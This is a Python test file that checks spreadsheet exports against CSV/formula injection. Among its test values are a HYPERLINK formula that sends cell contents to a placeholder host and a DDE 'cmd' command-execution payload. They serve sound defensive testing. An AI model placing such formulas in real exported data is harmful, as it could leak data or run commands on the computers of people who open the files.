"""Every CSV/XLSX export neutralises spreadsheet formulas (OWASP "CSV injection"): a text cell
beginning with = + - @, a tab or a carriage return leaves prefixed with an apostrophe."""

import csv
import io

import openpyxl
import pytest

from spsti.exports import cellule_sure
from spsti.permissions import Role
from tests.cellule_pdp.outils import un_dossier

FORMULE = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'


@pytest.mark.parametrize(("valeur", "attendu"), [
    ("=1+1", "'=1+1"), ("+33 6 12", "'+33 6 12"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Menuiserie = bois", "Menuiserie = bois"), ("", ""),
    (-3, -3), (None, None),
])
def test_cellule_sure(valeur, attendu):
    assert cellule_sure(valeur) == attendu


def cellules_csv(reponse) -> list[str]:
    texte = reponse.content.decode("utf-8-sig")
    return [c for ligne in csv.reader(io.StringIO(texte), delimiter=";" if ";" in texte.splitlines()[0] else ",")
            for c in ligne]


def cellules_xlsx(contenu: bytes) -> list:
    feuille = openpyxl.load_workbook(io.BytesIO(contenu)).active
    return [c for ligne in feuille.iter_rows() for c in ligne]


def test_export_csv_des_adherents(a):
    a.adherent.raison_sociale = FORMULE
    a.adherent.save()
    cellules = cellules_csv(a.client(Role.DIRECTEUR).get("/adherents/export.csv"))
    assert "'" + FORMULE in cellules and FORMULE not in cellules


def test_export_xlsx_des_adherents(a):
    a.adherent.raison_sociale = FORMULE
    a.adherent.save()
    reponse = a.client(Role.DIRECTEUR).get("/adherents/export.xlsx")
    cellules = cellules_xlsx(reponse.content)
    assert "'" + FORMULE in [c.value for c in cellules]
    assert all(c.data_type != "f" for c in cellules)


def test_export_des_effectifs_du_portail(a):
    a.salarie.nom, a.salarie.prenom = "=cmd|' /C calc'!A0", "@Léa"
    a.salarie.save()
    cellules = cellules_csv(a.client(Role.ADHERENT).get(f"/portail/entreprises/{a.adherent.pk}/effectifs.csv"))
    assert "'=cmd|' /C calc'!A0" in cellules and "'@Léa" in cellules
    assert not any(c.startswith(("=", "+", "@")) for c in cellules)


def test_export_xlsx_de_la_cellule_pdp(a):
    a.adherent.raison_sociale = FORMULE
    a.adherent.save()
    un_dossier(a, metier="+Soudeur")
    reponse = a.client(Role.MEDECIN).get("/pdp/dossiers/tableau-de-suivi.xlsx")
    cellules = cellules_xlsx(b"".join(reponse.streaming_content))
    valeurs = [c.value for c in cellules]
    assert "'" + FORMULE in valeurs and "'+Soudeur" in valeurs
    assert all(c.data_type != "f" for c in cellules)


@pytest.mark.parametrize("format_export", ["csv", "xlsx"])
def test_export_de_la_liste_d_un_indicateur(a, format_export):
    a.adherent.raison_sociale = FORMULE
    a.adherent.save()
    reponse = a.client(Role.DIRECTEUR).get("/indicateurs/adherents_suivis/liste/", {"format": format_export})
    assert reponse.status_code == 200
    if format_export == "csv":
        cellules = cellules_csv(reponse)
    else:
        cellules = cellules_xlsx(reponse.content)
        assert all(c.data_type != "f" for c in cellules)
        cellules = [c.value for c in cellules]
    assert "'" + FORMULE in cellules and FORMULE not in cellules
